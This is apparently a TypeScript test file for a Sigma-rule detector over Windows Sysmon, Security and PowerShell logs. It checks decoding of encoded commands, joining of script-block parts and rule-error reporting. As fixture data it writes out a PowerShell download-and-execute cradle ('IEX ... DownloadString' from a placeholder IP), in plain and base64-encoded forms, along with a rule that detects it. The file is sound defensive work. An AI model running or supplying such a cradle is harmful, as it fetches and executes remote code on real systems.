import { type EventParts, PlainEvent } from '@haetae/event';
import { describe, expect, test } from 'vitest';
import { DETECTORS, describeProblem, type Finding, MAX_REASON_VALUE } from '../../index.ts';
import { sigma } from './sigma.ts';

const RULE = `title: Web fetch
id: 11111111-2222-4333-8444-555555555555
tags: [attack.execution, attack.t1059.001, attack.t1562.001]
logsource: {product: windows, category: process_creation}
detection:
  fetch: {CommandLine|contains: DownloadString}
  good: {User: backup}
  condition: fetch and not good
level: high
`;

const UTF16 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", 'utf16le').toString(
  'base64',
);
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const event = (fields: Record<string, string>, more: Partial<EventParts> = {}): PlainEvent =>
  new PlainEvent({
    timeMs: 1_700_000_000_123,
    timeTicks: 4567,
    computer: 'PC01',
    channel: SYSMON,
    provider: 'Microsoft-Windows-Sysmon',
    eventId: 1,
    eventRecordId: 7,
    position: { kind: 'record', record: 9 },
    names: Object.keys(fields),
    values: Object.values(fields),
    ...more,
  });
const create = (text: string, minLevel: Finding['level'] = 'informational') =>
  sigma.create({ rules: [{ path: 'r.yml', text }], minLevel });

describe('a finding', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const commandLine = `powershell -enc ${encoded}`;
  const [finding] = create(RULE).detect(event({ Image: 'p.exe', CommandLine: commandLine }));

  test('tells rule, level, ATT&CK of today, event and fields', () => {
    expect(finding).toMatchObject({
      detector: 'sigma',
      rule: { id: '11111111-2222-4333-8444-555555555555', title: 'Web fetch', path: 'r.yml' },
      level: 'high',
      attack: { tactics: ['execution'], techniques: ['T1059.001', 'T1685'] },
      event: {
        timeMs: 1_700_000_000_123,
        timeTicks: 4567,
        computer: 'PC01',
        channel: SYSMON,
        provider: 'Microsoft-Windows-Sysmon',
        eventId: 1,
        eventRecordId: 7,
        position: { kind: 'record', record: 9 },
      },
      fields: { Image: 'p.exe', CommandLine: commandLine },
    });
  });

  test('tells why, and that it was the decoded text', () => {
    expect(finding!.decoded).toEqual([
      {
        field: 'CommandLine',
        kind: 'base64-utf16le',
        parent: -1,
        from: { start: 16, end: commandLine.length },
        text: script,
      },
    ]);
    expect(finding!.why).toEqual([
      {
        kind: 'held',
        selection: 'fetch',
        field: 'CommandLine',
        op: 'contains',
        pattern: 'DownloadString',
        value: script,
        at: { start: script.indexOf('DownloadString'), end: script.indexOf('DownloadString') + 14 },
        negated: false,
        decoded: 0,
      },
      { kind: 'filter-not-held', selection: 'good' },
    ]);
  });

  test('crosses threads and disks as it is', () => {
    expect(structuredClone(finding)).toEqual(finding);
    expect(JSON.parse(JSON.stringify(finding))).toEqual(finding);
  });
});

test('a rule of process creations sees Security 4688', () => {
  const seen = create(RULE).detect(
    event(
      { NewProcessName: 'p.exe', CommandLine: 'x.DownloadString(1)' },
      { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', eventId: 4688 },
    ),
  );
  expect(seen.map(({ event: { channel, eventId } }) => [channel, eventId])).toEqual([['Security', 4688]]);
});

test.each([
  ['field', {}, event({ CommandLine: 'DownloadString' }), { via: 'field' }],
  ['decoded', {}, event({ CommandLine: `powershell -enc ${UTF16}` }), { via: 'decoded' }],
  ['decoded', { strict: true }, event({ CommandLine: `powershell -enc ${UTF16}` }), undefined],
  [
    'mapped, without the field of its filter',
    {},
    event(
      { CommandLine: 'DownloadString' },
      { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', eventId: 4688 },
    ),
    { via: 'mapped:4688', degraded: ['User'], confidence: 0.5 },
  ],
  [
    'mapped, with all fields',
    {},
    event(
      { CommandLine: 'DownloadString', SubjectUserName: 'bob' },
      { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', eventId: 4688 },
    ),
    { via: 'mapped:4688' },
  ],
] as const)('%s (%j)', (_what, setup, seen, said) => {
  const [finding] = sigma.create({ rules: [{ path: 'r.yml', text: RULE }], ...setup }).detect(seen);
  if (said === undefined) expect(finding).toBeUndefined();
  else {
    expect(finding).toMatchObject(said);
    expect('degraded' in finding!).toBe('degraded' in said);
  }
});

describe('a script of several events', () => {
  const SCRIPT = RULE.replace('category: process_creation', 'category: ps_script')
    .replace('CommandLine|contains: DownloadString', "ScriptBlockText|contains|all: [Net.WebClient, 'String(']")
    .replace('{User: backup}', '{Path: x}');
  const part = (number: number, text: string) =>
    event(
      { MessageNumber: String(number), MessageTotal: '2', ScriptBlockText: text, ScriptBlockId: 'a', Path: '' },
      { channel: 'Microsoft-Windows-PowerShell/Operational', eventId: 4104 },
    );
  const run = (strict: boolean): (Finding | undefined)[] => {
    const detector = sigma.create({ rules: [{ path: 'r.yml', text: SCRIPT }], strict });
    const parts = [part(1, '(New-Object Net.Web'), part(2, 'Client).DownloadString(1)')];
    const found = parts.map((e) => detector.detect(e)[0]);
    expect(detector.scripts!()).toEqual({ joined: strict ? 0 : 1, waiting: 0, dropped: 0, repeated: 0 });
    return found;
  };

  test('is judged whole when the last part is there', () => {
    const [first, second] = run(false);
    expect(first).toBeUndefined();
    expect(second).toMatchObject({
      via: 'extracted',
      decoded: [{ field: 'ScriptBlockText', kind: 'joined', text: '(New-Object Net.WebClient).DownloadString(1)' }],
      why: [{ pattern: 'Net.WebClient', decoded: 0 }, { pattern: 'String(' }, { kind: 'filter-not-held' }],
    });
  });

  test('is not, under strict', () => {
    expect(run(true)).toEqual([undefined, undefined]);
  });
});

test('what has no time, and ids beyond 2^53, stay JSON', () => {
  const [finding] = create(RULE).detect(
    event({ CommandLine: 'DownloadString' }, { timeMs: Number.NaN, eventRecordId: 2n ** 60n }),
  );
  expect(finding!.event).toMatchObject({ timeMs: null, eventRecordId: '1152921504606846976' });
});

test('repeated names are numbered as in a dump; a hostile name is a field like any other', () => {
  const [finding] = create(RULE).detect(
    event({}, { names: ['CommandLine', 'Data', 'Data', '__proto__'], values: ['DownloadString', 'a', 'b', 'c'] }),
  );
  expect(Object.entries(finding!.fields)).toEqual([
    ['CommandLine', 'DownloadString'],
    ['Data', 'a'],
    ['Data[2]', 'b'],
    ['__proto__', 'c'],
  ]);
});

test('a long value is quoted around what was found', () => {
  const [finding] = create(RULE).detect(
    event({ CommandLine: `${'a '.repeat(3000)}DownloadString${' z'.repeat(3000)}` }),
  );
  const reason = finding!.why[0]!;
  if (reason.kind !== 'held') throw new Error('a filter came first');
  expect(reason.cut).toBe(true);
  expect(reason.value).toHaveLength(MAX_REASON_VALUE + 2);
  expect(reason.value!.slice(reason.at!.start, reason.at!.end)).toBe('DownloadString');
});

test.each([
  { minLevel: 'high', counts: { inForce: 1, belowLevel: 0, refused: 0 } },
  { minLevel: 'critical', counts: { inForce: 0, belowLevel: 1, refused: 0 } },
] as const)('from $minLevel', ({ minLevel, counts }) => {
  expect(create(RULE, minLevel).counts).toEqual(counts);
});

test('a rule without a level is informational', () => {
  expect(create(RULE.replace('level: high\n', ''), 'low').counts.belowLevel).toBe(1);
});

test('a bad rule is a problem with its place, and the others are in force', () => {
  const detector = sigma.create({
    rules: [
      { path: 'a.yml', text: RULE },
      { path: 'b.yml', text: RULE.replace('|contains', '|containz').replace('11111111', '22222222') },
      { path: 'c.yml', text: 'title: [' },
      { path: 'd.yml', text: RULE },
      { path: 'e.yml', text: RULE.replace('process_creation', 'proces_creation').replace('11111111', '33333333') },
    ],
  });
  expect(detector.counts).toEqual({ inForce: 2, belowLevel: 0, refused: 3 });
  expect(detector.problems.map((p) => [p.severity, p.code, p.file, p.line])).toEqual([
    ['error', 'unknown-modifier', 'b.yml', 6],
    ['error', 'bad-yaml', 'c.yml', expect.any(Number)],
    ['warning', 'repeated-id', 'd.yml', 1],
    ['error', 'no-source', 'e.yml', expect.any(Number)],
  ]);
  expect(describeProblem(detector.problems[0]!)).toMatch(/^b\.yml:6:\d+: no modifier \|containz/);
});

test('it tells what could have been found on a log', () => {
  expect(
    create(RULE).reach([
      { channel: SYSMON, eventId: 1 },
      { channel: 'security', eventId: 4688 },
      { channel: SYSMON, eventId: 5 },
    ]),
  ).toEqual({
    able: 1,
    kinds: [
      { channel: SYSMON, eventId: 1, rules: 1 },
      { channel: 'security', eventId: 4688, rules: 1 },
      { channel: SYSMON, eventId: 5, rules: 0 },
    ],
  });
});

test('it tells which rules are blind, and the setting', () => {
  const { canFire, blind } = create(RULE).ready!([{ channel: 'Security', eventId: 4624 }]);
  expect(canFire).toEqual([]);
  expect(blind[0]!.sources.map(({ settings }) => settings.map(({ kind }) => kind))).toEqual([
    ['sysmon'],
    ['audit', 'policy'],
  ]);
});

describe.each([...DETECTORS])('detector %s', (name, kind) => {
  test('is registered under its own name and makes detectors of that name', () => {
    expect(kind.name).toBe(name);
    const detector = kind.create({ rules: [] });
    expect(detector.name).toBe(name);
    expect(detector.detect(event({ CommandLine: 'DownloadString' }))).toEqual([]);
    expect(detector.finish?.() ?? []).toEqual([]);
    expect(detector.reach([])).toEqual({ able: 0, kinds: [] });
  });
});
